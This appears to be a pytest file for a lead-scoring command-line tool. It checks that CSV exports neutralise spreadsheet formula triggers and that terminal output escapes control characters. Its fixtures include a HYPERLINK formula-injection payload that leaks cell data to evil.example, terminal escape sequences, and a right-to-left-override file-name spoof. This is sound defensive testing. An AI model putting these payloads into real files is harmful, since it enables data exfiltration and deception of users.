"""Text from a user's files, as the command line writes it: the CSV of `accord score` never
hands a spreadsheet a formula, and a terminal never gets a control character to obey (bad-row
lines, notices, errors, reports), while JSON printed for a program reads back the same."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.app.cli_helpers import Accord

HEADER = ["Prospect ID", "Converted", "What is your current occupation", "TotalVisits", "Lead Origin"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _csv(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([HEADER, *rows])
    return path


@pytest.fixture
def formulas(tmp_path: Path, workshop_path: Path, accord: Accord) -> Path:
    rows = [[lead_id, str(i % 2), "Student", "2", "API"] for i, lead_id in enumerate(FORMULAS)]
    rows.append(["L-7", "1", "Working Professional", "10", "Landing Page Submission"])
    leads = _csv(tmp_path / "leads.csv", rows)
    result = accord("import-leads", workshop_path, leads, "--id", "Prospect ID", "--outcome", "Converted")
    assert result.returncode == 0, result.stderr
    return workshop_path


def test_score_csv_neutralises_formula_triggers(formulas: Path, tmp_path: Path, accord: Accord) -> None:
    out = tmp_path / "scores.csv"
    assert accord("score", formulas, "-o", out).returncode == 0
    with open(out, encoding="utf-8", newline="") as fh:
        written = fh.read()
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    # The import keeps a value byte for byte: the leading tab and carriage return too.
    assert [r["id"] for r in rows] == ["'" + f for f in FORMULAS] + ["L-7"]
    # The numbers Accord computes are not touched: a student's fit is -10.
    assert {r["fit"] for r in rows[:-1]} == {"-10"}
    assert all(not r[c].startswith("'") for r in rows for c in ("fit", "engagement", "score", "handoff"))
    stdout = accord("score", formulas).stdout
    assert stdout == written  # the same CSV on standard output


def test_every_formula_trigger_is_neutralised() -> None:
    from app.cli.score import cell_text

    for trigger in "=+-@\t\r":
        assert cell_text(f"{trigger}1") == f"'{trigger}1"
    assert cell_text("L-7") == "L-7" and cell_text("") == "" and cell_text("'=1") == "'=1"


ESC = "\x1b]0;owned\x07\x1b[2J"  # retitle the window, clear the screen
C1 = "\x9b31m"  # a C1 control sequence introducer


def _bad_leads(tmp_path: Path) -> Path:
    return _csv(
        tmp_path / "bad.csv",
        [
            ["L1", "1", "Student", "2", f"API{ESC}"],
            ["L2", "0", "Student", "3", f"api{ESC}"],  # control bytes: a bad row each, naming the byte
            ["L3", f"maybe{ESC}", "Student", "4", "API"],  # neither yes nor no: a bad row quotes it
            ["L4", "1", "Student", "5", f"Web{C1}"],
            ["L5", "0", "Student", "6", f"WEB{C1}"],
            # Ordinary leads around them: a file of mostly control characters is not read as text.
            *([f"N{i}", str(i % 2), "Student", "1", "Landing Page Submission"] for i in range(200)),
        ],
    )


def _no_controls(text: str) -> None:
    assert not any(ord(c) < 0x20 and c != "\n" or 0x7F <= ord(c) <= 0x9F for c in text), repr(text)


def test_bad_rows_show_control_characters_escaped(tmp_path: Path, workshop_path: Path, accord: Accord) -> None:
    result = accord("import-leads", workshop_path, _bad_leads(tmp_path), "--id", "Prospect ID")
    assert result.returncode == 1
    _no_controls(result.stderr)
    [line] = [x for x in result.stderr.splitlines() if "line 4" in x]
    # The import reads a control byte as no text at all: the row is bad, and says which byte.
    assert "not text: control byte 0x1B" in line


def test_notices_show_control_characters_escaped(tmp_path: Path, workshop_path: Path, accord: Accord) -> None:
    result = accord("import-leads", workshop_path, _bad_leads(tmp_path), "--id", "Prospect ID", "--accept-bad-rows")
    assert result.returncode == 0, result.stderr
    _no_controls(result.stdout)
    notes = [x for x in result.stdout.splitlines() if x.startswith("  note: ")]
    # (C0 control bytes make bad rows at import; a C1 control character is text, quoted escaped.)
    assert any("Web\\x9b31m" in n for n in notes), notes


def test_json_reads_back_the_same_text_without_raw_controls(
    tmp_path: Path, workshop_path: Path, accord: Accord
) -> None:
    args = ("import-leads", workshop_path, _bad_leads(tmp_path), "--id", "Prospect ID", "--accept-bad-rows", "--json")
    result = accord(*args)
    assert result.returncode == 0, result.stderr
    _no_controls(result.stdout)
    summary = json.loads(result.stdout)
    assert any(C1 in n for n in summary["notices"])  # JSON reads back the text itself


def test_errors_quoting_a_file_show_control_characters_escaped(
    tmp_path: Path, workshop_path: Path, accord: Accord
) -> None:
    leads = tmp_path / "cols.csv"
    leads.write_text(f"Prospect ID,Converted,Evil{ESC}\nL1,1,x\n", encoding="utf-8")
    result = accord("import-leads", workshop_path, leads, "--id", "Lead Number")
    assert result.returncode == 1
    _no_controls(result.stderr)
    assert result.stderr.count("\n") == 1 and "has no column 'Lead Number'" in result.stderr


def test_reports_of_a_workshop_show_control_characters_escaped(
    demo_leads_path: Path, tmp_path: Path, accord: Accord
) -> None:
    document = json.loads(accord("definitions", "export", demo_leads_path).stdout)
    document["definitions"]["bands"][0]["name"] = f"Cold{ESC}{C1}"
    document["definitions"]["stages"][0]["name"] = f"Inquiry{C1}\u202egnp.exe"
    changed = tmp_path / "changed.json"
    changed.write_text(json.dumps(document), encoding="utf-8")
    assert accord("definitions", "import", demo_leads_path, changed).returncode == 0
    check = accord("check", demo_leads_path)
    assert check.returncode == 0, check.stderr
    _no_controls(check.stdout)
    assert "Cold\\x1b]0;owned\\x07\\x1b[2J\\x9b31m" in check.stdout
    exported = accord("definitions", "export", demo_leads_path)
    _no_controls(exported.stdout)
    assert "\u202e" not in exported.stdout
    assert json.loads(exported.stdout)["definitions"]["stages"][0]["name"] == f"Inquiry{C1}\u202egnp.exe"
